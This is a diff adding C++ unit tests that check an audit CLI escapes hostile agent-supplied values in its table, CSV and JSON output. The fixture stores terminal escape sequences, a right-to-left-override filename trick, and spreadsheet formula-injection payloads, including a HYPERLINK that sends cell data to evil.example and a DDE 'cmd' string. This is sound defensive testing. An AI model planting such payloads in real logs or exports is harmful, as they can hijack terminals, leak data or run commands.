@@ -215,5 +215,105 @@ TEST_F(AuditCli, BadFlagValuesExitTwoNamingFlagAndValue) {
   EXPECT_NE(unknown.err.find("--frobnicate"), std::string::npos) << unknown.err;
 }
 
+// What an agent can put in a row (its URL, a refused target, echoed header values) and
+// what a spreadsheet runs as a formula. None of it may reach the operator's terminal raw.
+const std::string kHostilePath = "/\x1b]0;owned\x07\x1b[2J\x1b[31m\xc2\x9b" "31m\x7f\x9b\xff\r\t\x01\xe2\x80\xae" "gpj.exe";
+
+// Where the first character a terminal would act on is (C0 controls, DEL, C1 controls,
+// U+202E right-to-left override), or a byte that does not belong to a UTF-8 sequence,
+// allowing the line ends of the format (LF; CRLF for csv); empty if there is none.
+std::string first_unsafe(const std::string& s, bool crlf) {
+  const auto at = [&](std::size_t i) { return i < s.size() ? static_cast<unsigned char>(s[i]) : 0; };
+  for (std::size_t i = 0; i < s.size();) {
+    const unsigned char c = at(i);
+    const std::size_t n = c < 0x80 ? 1 : c >= 0xc2 && c < 0xe0 ? 2 : c >= 0xe0 && c < 0xf0 ? 3 : c >= 0xf0 && c < 0xf5 ? 4 : 0;
+    bool bad = n == 0;
+    for (std::size_t k = 1; k < n; ++k) bad = bad || (at(i + k) & 0xc0) != 0x80;
+    if (n == 1) bad = (c < 0x20 || c == 0x7f) && !(c == '\n' || (crlf && c == '\r' && at(i + 1) == '\n'));
+    if (n == 2) bad = bad || (c == 0xc2 && at(i + 1) <= 0x9f);
+    if (n == 3) bad = bad || (c == 0xe2 && at(i + 1) == 0x80 && at(i + 2) == 0xae);
+    if (bad) return "byte " + std::to_string(i) + " = " + std::to_string(c) + " in: " + s;
+    i += n;
+  }
+  return {};
+}
+
+class AuditCliHostile : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    WriterOptions o;
+    o.db_path = db;
+    Writer w(o);
+    AuditRecord r = row("ag\x1b[8ment", "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "deny", Clock::now());
+    r.method = "@SUM(1+1)";
+    r.path = kHostilePath;
+    r.reason = "+cmd|' /C calc'!A0";
+    r.rule = "-2+3";
+    r.client_addr = "\r=1+1";
+    const auto h = w.insert(std::move(r));
+    Completion c;
+    c.status = 400;
+    c.error = "\tleading tab";
+    w.complete(h, c);
+  }
+
+  test::RunResult audit(std::vector<std::string> args) {
+    args.insert(args.begin(), {"audit", "--db", db.string()});
+    auto r = run_netbox(args);
+    EXPECT_EQ(r.exit_code, 0) << r.err;
+    return r;
+  }
+
+  test::TempDir dir;
+  std::filesystem::path db = dir.path() / "audit.db";
+};
+
+TEST_F(AuditCliHostile, NoFormatPrintsAControlByte) {
+  for (const auto& args : std::vector<std::vector<std::string>>{{"--format", "table"},
+                                                                {"--format", "csv"},
+                                                                {"--format", "json"},
+                                                                {"summary", "--format", "table"},
+                                                                {"summary", "--format", "csv"},
+                                                                {"summary", "--format", "json"}}) {
+    const auto r = audit(args);
+    EXPECT_EQ(first_unsafe(r.out, args.back() == "csv"), "") << args.back();
+  }
+}
+
+TEST_F(AuditCliHostile, TableAndCsvShowEscapesInstead) {
+  // The table cuts the path at 32 characters; csv has all of it.
+  const auto table = audit({"--format", "table"});
+  for (const char* escape : {"/\\x1b]0;owned\\x07\\x1b[2J", "ag\\x1b[8ment"})
+    EXPECT_NE(table.out.find(escape), std::string::npos) << escape << "\n" << table.out;
+  const auto csv = audit({"--format", "csv"});
+  for (const char* escape :
+       {",/\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m\\u009b31m\\x7f\\x9b\\xff\\x0d\\x09\\x01\\u202egpj.exe,", ",ag\\x1b[8ment,"})
+    EXPECT_NE(csv.out.find(escape), std::string::npos) << escape << "\n" << csv.out;
+}
+
+TEST_F(AuditCliHostile, CsvCellsCannotStartAFormula) {
+  auto r = audit({"--format", "csv"});
+  for (const char* cell : {",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"ok\"\")\",", ",'@SUM(1+1),",
+                           ",'-2+3,", ",'+cmd|' /C calc'!A0,", ",\\x09leading tab\r\n", ",\\x0d=1+1,"})
+    EXPECT_NE(r.out.find(cell), std::string::npos) << cell << "\n" << r.out;
+  r = audit({"summary", "--format", "csv"});
+  EXPECT_NE(r.out.find(",\"'=HYPERLINK("), std::string::npos) << r.out;
+}
+
+TEST_F(AuditCliHostile, JsonKeepsTheExactValuesAsEscapes) {
+  const auto r = audit({"--format", "json"});
+  for (const char* escape : {"\\u001b]0;owned\\u0007", "\\u009b", "\\u007f", "\\u202e"})
+    EXPECT_NE(r.out.find(escape), std::string::npos) << escape << "\n" << r.out;
+  const auto j = nlohmann::json::parse(r.out);
+  ASSERT_EQ(j.size(), 1u);
+  EXPECT_EQ(j[0]["agent"], "ag\x1b[8ment");
+  EXPECT_EQ(j[0]["method"], "@SUM(1+1)");
+  // Everything but the byte that is not UTF-8 (\xff, replaced by U+FFFD) comes back as stored.
+  std::string expected = kHostilePath;
+  expected.replace(expected.find('\xff'), 1, "\xef\xbf\xbd");
+  expected.replace(expected.find("\x7f\x9b"), 2, "\x7f\xef\xbf\xbd");
+  EXPECT_EQ(j[0]["path"], expected);
+}
+
 }  // namespace
 }  // namespace netbox::audit
